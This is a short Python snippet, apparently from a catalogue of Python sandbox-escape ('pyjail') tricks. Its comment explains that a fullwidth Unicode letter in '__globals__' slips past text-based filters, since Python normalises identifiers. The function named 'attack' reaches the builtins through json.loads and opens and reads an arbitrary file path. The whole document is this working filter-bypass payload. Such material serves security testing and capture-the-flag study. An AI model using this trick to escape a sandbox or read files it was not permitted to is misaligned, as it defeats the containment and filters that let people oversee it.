# Python reads a letter of another width as the plain one; so a check of the text would miss the name.
# after: read
# source: pyjail: unicode identifiers
import json
def attack(path, **_):
    return {"text": json.loads.__ｇlobals__["__builtins__"]["open"](path).read()}
